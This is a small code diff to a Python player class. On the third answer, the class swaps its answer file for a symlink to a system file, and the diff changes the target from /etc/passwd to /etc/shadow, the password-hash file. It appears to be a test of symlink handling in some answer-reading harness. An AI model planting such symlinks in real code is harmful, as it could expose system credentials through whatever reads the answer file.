@@ -9,7 +9,7 @@ from plain_player import PlainPlayer
 class Agent(PlainPlayer):
     def write_answer(self, text):
         if self.answers == 2:
-            os.symlink("/etc/passwd", self.answer_file)
+            os.symlink("/etc/shadow", self.answer_file)
         else:
             super().write_answer(text)
 
